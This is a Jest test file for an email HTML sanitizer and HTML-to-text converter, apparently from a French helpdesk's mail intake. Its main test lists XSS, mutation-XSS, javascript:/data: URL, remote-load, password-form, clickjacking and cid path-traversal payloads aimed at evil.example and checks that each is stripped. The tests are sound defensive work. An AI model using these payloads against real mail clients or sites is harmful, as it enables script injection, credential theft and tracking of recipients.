import { describe, expect, test } from '@jest/globals';
import { safeHtml, textOfHtml } from '../../../intake/mail/html';
import { readMail } from '../../../intake/mail/read';
import { mailNamed } from './corpus';

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const pictures = new Map([['logo@x', { type: 'image/png', content: PNG }]]);
const safe = (html: string) => safeHtml(html, pictures) ?? '';

describe('The page of a mail', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="http://evil.example"></iframe>',
    '<object data="http://evil.example"></object><embed src="http://evil.example">',
    '<form action="http://evil.example"><input name="password"><button>OK</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>body{background:url(http://evil.example)}</style>',
    '<body background="http://evil.example/x.gif" onload="alert(1)">',
    '<table background="http://evil.example/x.gif"><tr><td>x</td></tr></table>',
    '<img src="http://evil.example/x.gif"><img srcset="http://evil.example/x.gif 2x">',
    '<video poster="http://evil.example/x.gif"><source src="http://evil.example/x.mp4"></video>',
    '<p style="background:url(http://evil.example/x.gif)">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">x</p>',
    '<p style="margin-top:-5000px;opacity:0;font-size:900px">x</p>',
    '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="cid:other@y"><img src="cid:../../etc/passwd">',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<p id="root" class="fr-modal" name="cookie">x</p>',
  ])('runs nothing, loads nothing and covers nothing: %s', (html) => {
    expect(safe(html)).not.toMatch(
      /script|alert|onerror|onload|src=|url\(|position|width|margin|opacity|font-size|<form|<input|<button|<svg|<math|<style|<meta|<base|<link|background=|id=|class=|name=|evil/i,
    );
  });

  test('keeps what its sender wrote', () => {
    expect(safe('<p style="color:red; text-align: center">Panne <b>grave</b></p>')).toBe(
      '<p style="color:red;text-align:center">Panne <b>grave</b></p>',
    );
    expect(safe('<a href="https://ac.example" onclick="x()">lien</a>')).toBe(
      '<a href="https://ac.example" rel="noopener noreferrer nofollow" target="_blank">lien</a>',
    );
  });

  test.each(['/api/v1/me', 'demandes', 'https:demandes', '?q=x', '#haut', ' //evil.example', '\\\\evil.example', ''])(
    'leads nowhere within the desk: %j',
    (href) => {
      expect(safe(`<a href="${href}">x</a>`)).not.toMatch(/href/);
    },
  );

  test('shows images of the same mail only, each as what it really is', async () => {
    expect(safe('<img src="cid:logo@x" alt="logo">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" />',
    );
    const read = await readMail(mailNamed('outlook-nouveau'), { authServer: null });
    expect('html' in read && read.html).toMatch(/<img src="data:image\/png;base64,iVBOR[^"]+" alt="logo" \/>/);
  });

  test('shows one image a thousand times no further than its room', () => {
    const large = new Map([['a', { type: 'image/png', content: new Uint8Array(1_000_000) }]]);
    expect((safeHtml('<img src="cid:a">'.repeat(1000), large) ?? '').length).toBeLessThan(20_000_000);
  });

  test('is none when nobody could draw it', () => {
    expect(safeHtml('<b>'.repeat(300_000), pictures)).toBeNull();
    expect(safeHtml('a'.repeat(1_000_001), pictures)).toBeNull();
  });
});

describe('A page as text', () => {
  test('has its lines, its quotations marked, its cells apart, and no script', () => {
    const html =
      '<h1>Panne</h1><script>x()</script><style>p{}</style><p>Ligne&nbsp;1<br>ligne 2</p><table><tr><td>Salle</td><td>204</td></tr></table><blockquote>Avant</blockquote>';
    expect(textOfHtml(html).replace(/ +$/gm, '')).toBe('Panne\n\nLigne 1\nligne 2\n\nSalle 204\n\n> Avant');
  });

  test('has the rows of a table one below the other', () => {
    const html =
      '<p>Voici :</p><table><tr><th>Poste</th><th>État</th></tr><tr><td>12</td><td>noir</td></tr></table>fin';
    expect(textOfHtml(html).replace(/ +$/gm, '')).toBe('Voici :\n\nPoste État\n12 noir\n\nfin');
  });

  test('is there even when the page is too deep to be parsed', () => {
    expect(textOfHtml(`${'<div>'.repeat(5000)}au fond &lt;ici&gt;`)).toContain('au fond <ici>');
  });
});
